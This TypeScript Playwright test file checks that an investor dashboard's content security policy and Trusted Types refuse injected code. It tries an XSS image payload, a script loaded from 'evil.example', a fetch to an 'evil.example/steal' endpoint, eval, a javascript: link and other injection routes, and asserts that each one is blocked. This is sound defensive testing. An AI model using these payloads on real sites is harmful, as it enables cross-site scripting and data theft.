import { createHash } from 'node:crypto';
import { newInvestor, remember } from '../support/investor.ts';
import { expect, test } from '../support/test.ts';

test.describe('code injected into the page', () => {
  test.use({ allowedComplaints: [/./], violatesPolicies: true }); // the browser reports each attempt

  test('is blocked', async ({ page, request, complaints }) => {
    await remember(page, await newInvestor(request));
    await page.goto('/dashboard', { waitUntil: 'domcontentloaded' });
    await expect(page.getByRole('heading', { level: 1, name: /^Welcome, / })).toBeVisible();
    // The policy does not cover code that the debugger evaluates. A timer's callback counts as page code.
    const outcome = await page.evaluate(
      () =>
        new Promise<Record<string, string>>((resolve) => {
          setTimeout(async () => {
            const tried: Record<string, string> = {};
            const attempt = (name: string, act: () => unknown) => {
              try {
                act();
                tried[name] = 'let through';
              } catch {
                tried[name] = 'refused';
              }
            };
            const text = (value: string) => value as never;
            attempt('innerHTML', () => {
              document.createElement('div').innerHTML = text('<img src=x onerror=alert(1)>');
            });
            attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', text('<b>x</b>')));
            attempt('script.src elsewhere', () => {
              document.createElement('script').src = text('https://evil.example/x.js');
            });
            attempt('script.src of this site that is no release', () => {
              document.createElement('script').src = text('/api/openapi.json');
            });
            attempt('script.text', () => {
              document.createElement('script').text = text('window.hacked = 1');
            });
            // biome-ignore lint/security/noGlobalEval: this is the attack
            attempt('eval', () => eval('window.hacked = 1'));
            attempt('Function', () => new Function('window.hacked = 1')());
            attempt('a policy of its own', () =>
              (
                window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
              ).trustedTypes.createPolicy('evil', {}),
            );
            attempt('document.write', () => document.write(text('<script>window.hacked = 1</script>')));
            attempt('a timer with text', () => setTimeout(text('window.hacked = 1'), 0));
            const link = document.createElement('a');
            link.href = 'javascript:window.hacked=1';
            document.body.append(link);
            link.click();
            await fetch('https://evil.example/steal').then(
              () => (tried['fetch elsewhere'] = 'let through'),
              () => (tried['fetch elsewhere'] = 'refused'),
            );
            await new Promise((later) => setTimeout(later, 200));
            tried.hacked = String((window as unknown as { hacked?: number }).hacked);
            resolve(tried);
          }, 0);
        }),
    );
    const { hacked, ...attempts } = outcome;
    expect(hacked).toBe('undefined');
    expect(new Set(Object.values(attempts))).toEqual(new Set(['refused']));
    await expect(page.getByRole('heading', { level: 1, name: /^Welcome, / })).toBeVisible();
    await expect.poll(() => complaints.length).toBeGreaterThanOrEqual(Object.keys(attempts).length - 1);
  });
});

test('the document allows only the code it needs', async ({ request }) => {
  const answer = await request.get('/');
  const policy = answer.headers()['content-security-policy'] ?? '';
  expect(policy).not.toMatch(/unsafe-|\*|http:|strict-dynamic/);
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(answer.headers()['integrity-policy']).toContain('script');
  expect(answer.headers()['x-powered-by']).toBeUndefined();
  const html = await answer.text();
  const scripts = [...html.matchAll(/<script(?! type="application\/json")([^>]*)>(.*?)<\/script>/gs)];
  expect(scripts.length).toBeGreaterThan(1);
  for (const [, attributes = '', code = ''] of scripts) {
    if (code === '') expect(attributes).toMatch(/ src="\/assets\/[^"]+" integrity="sha384-/);
    else expect(policy).toContain(`'sha256-${createHash('sha256').update(code).digest('base64')}'`);
  }
});
